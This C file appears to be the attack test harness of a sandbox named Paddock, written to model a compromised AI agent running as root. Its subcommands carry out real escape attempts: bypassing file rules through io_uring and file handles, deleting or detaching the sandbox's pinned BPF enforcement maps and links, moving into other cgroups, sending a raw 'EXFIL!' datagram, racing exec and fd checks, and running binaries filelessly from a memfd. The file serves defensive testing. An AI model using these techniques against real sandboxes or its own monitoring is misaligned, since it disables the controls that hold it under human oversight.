/*
 * attack: what a turned agent running as root tries against Paddock, one
 * technique per subcommand, each done for real with the kernel's own
 * interfaces (no liburing, no libbpf: raw syscalls, so that what is tried
 * is exactly what is named).  tests/attack/attack.sh runs each from inside
 * an enforced workload and asserts the outcome docs/enforcement.md states.
 *
 * Each prints what it achieved ("read: <content>", "deleted N", "moved",
 * ...) and exits 0 when the attack worked, 1 when the kernel refused it
 * (with the error), so that the script can tell "refused" from "killed"
 * (the shell sees 137) from "got through".
 *
 *   iouring-open PATH          IORING_OP_OPENAT + IORING_OP_READ of PATH
 *   iouring-connect SOCK MSG   IORING_OP_CONNECT to unix SOCK, send MSG
 *   bpf-del PIN                BPF_OBJ_GET a pinned map, delete every key
 *   bpf-detach PIN             BPF_OBJ_GET a pinned link, BPF_LINK_DETACH
 *   bpf-race PIN N             N tries: one thread gets the map fd, another
 *                              deletes its keys with it; prints the tries
 *                              in which a key went
 *   perf-tp ID                 perf_event_open of tracepoint ID
 *   handle PATH                name_to_handle_at + open_by_handle_at, read
 *   handle-name PATH           name_to_handle_at only (benign: learnt)
 *   cgroup-escape DIR          write our pid to DIR/cgroup.procs
 *   clone-into DIR MARKER      clone3(CLONE_INTO_CGROUP DIR); the child
 *                              writes MARKER
 *   raw PORT                   SOCK_RAW IPPROTO_UDP: a hand-built UDP
 *                              datagram to 127.0.0.1:PORT
 *   packet                     an AF_PACKET socket
 *   unix-race SOCK MSG N       N tries: a thread writes MSG while the main
 *                              one connects to SOCK; prints the replies
 *   pread-race PATH N          N tries: a thread preads the fd an open of
 *                              PATH will get; prints the tries that read
 *   exec-toctou GOOD BAD M N   N forks: a thread flips the path between
 *                              GOOD and BAD while the child execs it with
 *                              argument M (BAD: a touch that makes M)
 *   link OLD NEW               link(OLD, NEW)
 *   rename OLD NEW             rename(OLD, NEW)
 *   flood DIR N PATH           open DIR/0..N-1, then PATH; print PATH's
 *   syscall-storm N            N getppid()s (a syscall storm)
 *   memfd-exec BIN ARG         copy BIN into a memfd and fexecve it with
 *                              ARG (fileless exec)
 *   unix-stream ADDR MSG       connect to unix ADDR (a path, or @name for
 *                              an abstract socket; %00 in it is a NUL),
 *                              send MSG, print the reply
 *   unix-dgram ADDR MSG        sendto(ADDR) of MSG from an unbound
 *                              datagram socket
 *   unix-serve stream|dgram ADDR OUT
 *                              (the services, outside the workload)
 *                              listen at ADDR, append what comes to OUT;
 *                              a stream peer gets "PONG"
 */
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <arpa/inet.h>

#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/sched.h>

#include <errno.h>
#include <stddef.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int
fail(const char *what)
{
	printf("refused: %s: %s\n", what, strerror(errno));
	return 1;
}

/* ---------------------------------------------------------------- io_uring */

struct ring {
	int		 fd;
	unsigned	*sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail,
			*cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int
ring_init(struct ring *r)
{
	struct io_uring_params p;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	if ((r->fd = (int)syscall(__NR_io_uring_setup, 4, &p)) < 0)
		return -1;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned),
	    PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries *
	    sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED,
	    r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
	    PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -1;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit sqe and wait for its completion; its result. */
static int
ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
	int res;

	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS,
	    NULL, 0) < 0)
		return -errno;
	head = *r->cq_head;
	res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int
iouring_open(const char *path)
{
	struct io_uring_sqe sqe;
	struct ring r;
	char buf[256];
	int fd, n;

	if (ring_init(&r) < 0)
		return fail("io_uring_setup");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (uintptr_t)path;
	if ((fd = ring_run(&r, &sqe)) < 0) {
		errno = -fd;
		return fail("IORING_OP_OPENAT");
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.addr = (uintptr_t)buf;
	sqe.len = sizeof(buf) - 1;
	if ((n = ring_run(&r, &sqe)) < 0) {
		errno = -n;
		return fail("IORING_OP_READ");
	}
	buf[n] = '\0';
	printf("read: %s", buf);
	return 0;
}

static int
iouring_connect(const char *sock, const char *msg)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	struct io_uring_sqe sqe;
	struct ring r;
	char buf[256];
	int s, rc;
	ssize_t n;

	if (ring_init(&r) < 0)
		return fail("io_uring_setup");
	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", sock);
	if ((s = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
		return fail("socket");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = s;
	sqe.addr = (uintptr_t)&sun;
	sqe.off = sizeof(sun);
	if ((rc = ring_run(&r, &sqe)) < 0) {
		errno = -rc;
		return fail("IORING_OP_CONNECT");
	}
	if (write(s, msg, strlen(msg)) < 0 || (n = read(s, buf,
	    sizeof(buf) - 1)) <= 0)
		return fail("write");
	buf[n] = '\0';
	printf("reply: %s", buf);
	return 0;
}

/* ---------------------------------------------------------------- bpf */

static long
sys_bpf(int cmd, union bpf_attr *a)
{
	return syscall(__NR_bpf, cmd, a, sizeof(*a));
}

static int
obj_get(const char *pin)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.pathname = (uintptr_t)pin;
	return (int)sys_bpf(BPF_OBJ_GET, &a);
}

/* Delete every key of map fd (keys up to 64 bytes); how many went. */
static int
del_all(int fd)
{
	unsigned char key[64], next[64];
	union bpf_attr a;
	int n = 0, first = 1;

	for (;;) {
		memset(&a, 0, sizeof(a));
		a.map_fd = (uint32_t)fd;
		a.key = first ? 0 : (uintptr_t)key;
		a.next_key = (uintptr_t)next;
		if (sys_bpf(BPF_MAP_GET_NEXT_KEY, &a) < 0)
			break;
		first = 0;
		memcpy(key, next, sizeof(key));
		memset(&a, 0, sizeof(a));
		a.map_fd = (uint32_t)fd;
		a.key = (uintptr_t)key;
		if (sys_bpf(BPF_MAP_DELETE_ELEM, &a) == 0) {
			n++;
			first = 1;
		}
	}
	return n;
}

static int
bpf_del(const char *pin)
{
	int fd;

	if ((fd = obj_get(pin)) < 0)
		return fail("BPF_OBJ_GET");
	printf("deleted %d\n", del_all(fd));
	return 0;
}

static int
bpf_detach(const char *pin)
{
	union bpf_attr a;
	int fd;

	if ((fd = obj_get(pin)) < 0)
		return fail("BPF_OBJ_GET");
	memset(&a, 0, sizeof(a));
	a.link_detach.link_fd = (uint32_t)fd;
	if (sys_bpf(BPF_LINK_DETACH, &a) < 0)
		return fail("BPF_LINK_DETACH");
	printf("detached\n");
	return 0;
}

/* The multi-threaded race: a second thread uses the fd the first gets. */
struct race {
	atomic_int	 go, fd, hits;
	const char	*path;
	char		 msg[128];
	char		 got[256];
};

static void *
bpf_racer(void *arg)
{
	struct race *r = arg;
	int fd;

	while (!atomic_load(&r->go))
		;
	for (fd = 3; fd < 16; fd = fd == 15 ? 3 : fd + 1)
		if (del_all(fd) > 0)
			atomic_fetch_add(&r->hits, 1);
	return NULL;
}

/* Fork n children that each try once; count those that reported a hit
 * through the shared page. */
static int
race_children(int n, void (*child)(struct race *), struct race *shared)
{
	int i, wins = 0, killed = 0, st;
	pid_t p;

	for (i = 0; i < n; i++) {
		atomic_store(&shared->hits, 0);
		if ((p = fork()) == 0) {
			child(shared);
			_exit(0);
		}
		waitpid(p, &st, 0);
		if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
			killed++;
		if (atomic_load(&shared->hits) > 0)
			wins++;
	}
	printf("tries %d killed %d won %d\n", n, killed, wins);
	return wins > 0 ? 0 : 1;
}

static void
bpf_race_child(struct race *r)
{
	pthread_t t;

	pthread_create(&t, NULL, bpf_racer, r);
	atomic_store(&r->go, 1);
	usleep(100);
	obj_get(r->path);
	usleep(2000);
}

/* ---------------------------------------------------------------- others */

static int
perf_tp(long id)
{
	struct perf_event_attr a;
	int fd;

	memset(&a, 0, sizeof(a));
	a.type = PERF_TYPE_TRACEPOINT;
	a.size = sizeof(a);
	a.config = (uint64_t)id;
	if ((fd = (int)syscall(__NR_perf_event_open, &a, -1, 0, -1, 0)) < 0)
		return fail("perf_event_open");
	printf("opened\n");
	return 0;
}

static int
handle(const char *path)
{
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	char buf[256];
	int mnt, fd, mfd;
	ssize_t n;

	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, h, &mnt, 0) < 0)
		return fail("name_to_handle_at");
	if ((mfd = open("/", O_PATH)) < 0)	/* no open the file rules see */
		return fail("open /");
	if ((fd = open_by_handle_at(mfd, h, O_RDONLY)) < 0)
		return fail("open_by_handle_at");
	if ((n = read(fd, buf, sizeof(buf) - 1)) < 0)
		return fail("read");
	buf[n] = '\0';
	printf("read: %s", buf);
	return 0;
}

static int
cgroup_escape(const char *dir)
{
	char path[512], line[512];
	FILE *f;
	int fd;

	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	if ((fd = open(path, O_WRONLY)) < 0)
		return fail("open cgroup.procs");
	snprintf(line, sizeof(line), "%d\n", getpid());
	if (write(fd, line, strlen(line)) < 0)
		return fail("write cgroup.procs");
	if ((f = fopen("/proc/self/cgroup", "r")) != NULL) {
		while (fgets(line, sizeof(line), f) != NULL)
			if (strncmp(line, "0::", 3) == 0)
				printf("moved: %s", line + 3);
		fclose(f);
	}
	return 0;
}

static int
clone_into(const char *dir, const char *marker)
{
	struct clone_args ca;
	int cfd, fd, st;
	long pid;

	if ((cfd = open(dir, O_RDONLY | O_DIRECTORY)) < 0)
		return fail("open cgroup dir");
	memset(&ca, 0, sizeof(ca));
	ca.flags = CLONE_INTO_CGROUP;
	ca.exit_signal = SIGCHLD;
	ca.cgroup = (uint64_t)cfd;
	if ((pid = syscall(__NR_clone3, &ca, sizeof(ca))) < 0)
		return fail("clone3");
	if (pid == 0) {
		if ((fd = open(marker, O_WRONLY | O_CREAT, 0644)) >= 0)
			close(fd);
		_exit(0);
	}
	waitpid((pid_t)pid, &st, 0);
	printf("child %s\n", WIFSIGNALED(st) ? "killed" : "ran");
	return WIFSIGNALED(st) ? 1 : 0;
}

static uint16_t
csum(const void *p, size_t n)
{
	const uint16_t *w = p;
	uint32_t s = 0;

	for (; n > 1; n -= 2)
		s += *w++;
	if (n)
		s += *(const uint8_t *)w;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static int
raw(int port)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct { struct iphdr ip; struct udphdr udp; char data[8]; } pk;
	int s, on = 1;

	if ((s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP)) < 0)
		return fail("socket(SOCK_RAW)");
	setsockopt(s, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on));
	memset(&pk, 0, sizeof(pk));
	pk.ip.version = 4;
	pk.ip.ihl = 5;
	pk.ip.ttl = 64;
	pk.ip.protocol = IPPROTO_UDP;
	pk.ip.tot_len = htons(sizeof(pk));
	pk.ip.saddr = pk.ip.daddr = htonl(INADDR_LOOPBACK);
	pk.ip.check = csum(&pk.ip, sizeof(pk.ip));
	pk.udp.source = htons(40000);
	pk.udp.dest = htons((uint16_t)port);
	pk.udp.len = htons(sizeof(pk.udp) + sizeof(pk.data));
	memcpy(pk.data, "EXFIL!\n", 8);
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (sendto(s, &pk, sizeof(pk), 0, (struct sockaddr *)&to,
	    sizeof(to)) < 0)
		return fail("sendto");
	printf("sent\n");
	return 0;
}

static int
packet(void)
{
	if (socket(AF_PACKET, SOCK_RAW, htons(0x0003)) < 0)
		return fail("socket(AF_PACKET)");
	printf("opened\n");
	return 0;
}

static void *
unix_writer(void *arg)
{
	struct race *r = arg;
	char buf[128];
	ssize_t n;
	int fd = atomic_load(&r->fd);

	while (!atomic_load(&r->go))
		;
	for (;;)
		if (write(fd, r->msg, strlen(r->msg)) > 0) {
			if ((n = read(fd, buf, sizeof(buf) - 1)) > 0)
				atomic_fetch_add(&r->hits, 1);
			return NULL;
		}
}

static void
unix_race_child(struct race *r)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	pthread_t t;
	int s;

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", r->path);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	atomic_store(&r->fd, s);
	pthread_create(&t, NULL, unix_writer, r);
	atomic_store(&r->go, 1);
	usleep(50);
	if (connect(s, (struct sockaddr *)&sun, sizeof(sun)) < 0)
		printf("connect: %s\n", strerror(errno));
	usleep(20000);
}

static void *
preader(void *arg)
{
	struct race *r = arg;
	char buf[255];
	ssize_t n;
	int fd = atomic_load(&r->fd);

	while (!atomic_load(&r->go))
		;
	for (;;)
		if ((n = pread(fd, buf, sizeof(buf) - 1, 0)) > 0) {
			memcpy(r->got, buf, (size_t)n);
			r->got[n] = '\0';
			atomic_fetch_add(&r->hits, 1);
			return NULL;
		}
}

static void
pread_race_child(struct race *r)
{
	pthread_t t;
	int fd = dup(0);	/* the next open gets this number */

	close(fd);
	atomic_store(&r->fd, fd);
	pthread_create(&t, NULL, preader, r);
	atomic_store(&r->go, 1);
	usleep(50);
	open(r->path, O_RDONLY);
	usleep(20000);
}

static void *
flipper(void *arg)
{
	struct race *r = arg;
	char *p = r->got;
	const char *a = r->msg, *b = r->path;

	while (!atomic_load(&r->go))
		;
	for (;;) {
		strcpy(p, a);
		strcpy(p, b);
	}
	return NULL;
}

static int
exec_toctou(const char *good, const char *bad, const char *marker, int n)
{
	struct race *r = mmap(NULL, sizeof(*r), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char *const argv[] = { "x", (char *)marker, NULL };
	int i, st, ran = 0;
	pthread_t t;
	pid_t p;

	snprintf(r->msg, sizeof(r->msg), "%s", good);
	r->path = bad;
	for (i = 0; i < n; i++) {
		if ((p = fork()) == 0) {
			pthread_create(&t, NULL, flipper, r);
			atomic_store(&r->go, 1);
			usleep(20);
			execv(r->got, argv);
			_exit(0);
		}
		waitpid(p, &st, 0);
		if (access(marker, F_OK) == 0) {
			ran++;	/* the bad one made it */
			unlink(marker);
		}
	}
	printf("tries %d bad ran %d\n", n, ran);
	return ran > 0 ? 0 : 1;
}

static int
flood(const char *dir, int n, const char *path)
{
	char p[512], buf[256];
	ssize_t k;
	int i, fd;

	for (i = 0; i < n; i++) {
		snprintf(p, sizeof(p), "%s/%d", dir, i);
		if ((fd = open(p, O_RDONLY)) >= 0)
			close(fd);
	}
	if ((fd = open(path, O_RDONLY)) < 0)
		return fail(path);
	k = read(fd, buf, sizeof(buf) - 1);
	buf[k > 0 ? k : 0] = '\0';
	printf("read: %s", buf);
	return 0;
}

static int
memfd_exec(const char *bin, const char *arg)
{
	char buf[65536], *const av[] = { "x", (char *)arg, NULL };
	extern char **environ;
	ssize_t n;
	int in, fd;

	if ((in = open(bin, O_RDONLY)) < 0)
		return fail(bin);
	if ((fd = memfd_create("payload", MFD_CLOEXEC)) < 0)
		return fail("memfd_create");
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return fail("write");
	close(in);
	fexecve(fd, av, environ);
	return fail("fexecve");
}

/* ADDR as a unix address: a path, or "@name" (abstract; "%00" a NUL). */
static socklen_t
unix_addr(const char *a, struct sockaddr_un *sun)
{
	size_t n = 0;

	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	if (a[0] != '@') {
		snprintf(sun->sun_path, sizeof(sun->sun_path), "%s", a);
		return sizeof(*sun);
	}
	for (a++, n = 1; *a && n < sizeof(sun->sun_path); n++)
		if (strncmp(a, "%00", 3) == 0) {
			sun->sun_path[n] = '\0';
			a += 3;
		} else
			sun->sun_path[n] = *a++;
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n);
}

static int
unix_stream(const char *addr, const char *msg)
{
	struct sockaddr_un sun;
	socklen_t len = unix_addr(addr, &sun);
	char buf[128];
	ssize_t n;
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (connect(s, (struct sockaddr *)&sun, len) < 0)
		return fail("connect");
	if (write(s, msg, strlen(msg)) < 0)
		return fail("write");
	n = read(s, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("reply: %s\n", buf);
	return 0;
}

static int
unix_dgram(const char *addr, const char *msg)
{
	struct sockaddr_un sun;
	socklen_t len = unix_addr(addr, &sun);
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sun, len) < 0)
		return fail("sendto");
	printf("sent\n");
	return 0;
}

static int
unix_serve(const char *kind, const char *addr, const char *out)
{
	struct sockaddr_un sun;
	socklen_t len = unix_addr(addr, &sun);
	int dgram = strcmp(kind, "dgram") == 0, s, c, o;
	char buf[256];
	ssize_t n;

	s = socket(AF_UNIX, dgram ? SOCK_DGRAM : SOCK_STREAM, 0);
	if (bind(s, (struct sockaddr *)&sun, len) < 0 ||
	    (!dgram && listen(s, 16) < 0))
		return fail("bind");
	if ((o = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644)) < 0)
		return fail(out);
	for (;;) {
		c = dgram ? s : accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if ((n = read(c, buf, sizeof(buf) - 1)) > 0) {
			buf[n++] = '\n';
			if (write(o, buf, (size_t)n) < 0)
				return fail("write");
		}
		if (!dgram) {
			if (write(c, "PONG", 4) < 0)
				perror("write");
			close(c);
		}
	}
}

int
main(int argc, char **argv)
{
	static struct race *r;
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	r = mmap(NULL, sizeof(*r), PROT_READ | PROT_WRITE, MAP_SHARED |
	    MAP_ANONYMOUS, -1, 0);
	if (argc == 3 && strcmp(c, "iouring-open") == 0)
		return iouring_open(argv[2]);
	if (argc == 4 && strcmp(c, "iouring-connect") == 0)
		return iouring_connect(argv[2], argv[3]);
	if (argc == 3 && strcmp(c, "bpf-del") == 0)
		return bpf_del(argv[2]);
	if (argc == 3 && strcmp(c, "bpf-detach") == 0)
		return bpf_detach(argv[2]);
	if (argc == 4 && strcmp(c, "bpf-race") == 0) {
		r->path = argv[2];
		return race_children(atoi(argv[3]), bpf_race_child, r);
	}
	if (argc == 3 && strcmp(c, "perf-tp") == 0)
		return perf_tp(atol(argv[2]));
	if (argc == 3 && strcmp(c, "handle") == 0)
		return handle(argv[2]);
	if (argc == 3 && strcmp(c, "handle-name") == 0) {
		struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
		int mnt;

		h->handle_bytes = MAX_HANDLE_SZ;
		return name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0 ?
		    fail("name_to_handle_at") : (printf("handle\n"), 0);
	}
	if (argc == 3 && strcmp(c, "cgroup-escape") == 0)
		return cgroup_escape(argv[2]);
	if (argc == 4 && strcmp(c, "clone-into") == 0)
		return clone_into(argv[2], argv[3]);
	if (argc == 3 && strcmp(c, "raw") == 0)
		return raw(atoi(argv[2]));
	if (argc == 2 && strcmp(c, "packet") == 0)
		return packet();
	if (argc == 5 && strcmp(c, "unix-race") == 0) {
		r->path = argv[2];
		snprintf(r->msg, sizeof(r->msg), "%s", argv[3]);
		return race_children(atoi(argv[4]), unix_race_child, r);
	}
	if (argc == 4 && strcmp(c, "pread-race") == 0) {
		r->path = argv[2];
		return race_children(atoi(argv[3]), pread_race_child, r);
	}
	if (argc == 6 && strcmp(c, "exec-toctou") == 0)
		return exec_toctou(argv[2], argv[3], argv[4], atoi(argv[5]));
	if (argc == 4 && strcmp(c, "link") == 0)
		return link(argv[2], argv[3]) < 0 ? fail("link") :
		    (printf("linked\n"), 0);
	if (argc == 4 && strcmp(c, "rename") == 0)
		return rename(argv[2], argv[3]) < 0 ? fail("rename") :
		    (printf("renamed\n"), 0);
	if (argc == 5 && strcmp(c, "flood") == 0)
		return flood(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 4 && strcmp(c, "memfd-exec") == 0)
		return memfd_exec(argv[2], argv[3]);
	if (argc == 4 && strcmp(c, "unix-stream") == 0)
		return unix_stream(argv[2], argv[3]);
	if (argc == 4 && strcmp(c, "unix-dgram") == 0)
		return unix_dgram(argv[2], argv[3]);
	if (argc == 5 && strcmp(c, "unix-serve") == 0)
		return unix_serve(argv[2], argv[3], argv[4]);
	if (argc == 3 && strcmp(c, "syscall-storm") == 0) {
		long i, n = atol(argv[2]);

		for (i = 0; i < n; i++)
			syscall(__NR_getppid);
		printf("done\n");
		return 0;
	}
	fprintf(stderr, "usage: see the comment atop tests/attack/attack.c\n");
	return 2;
}
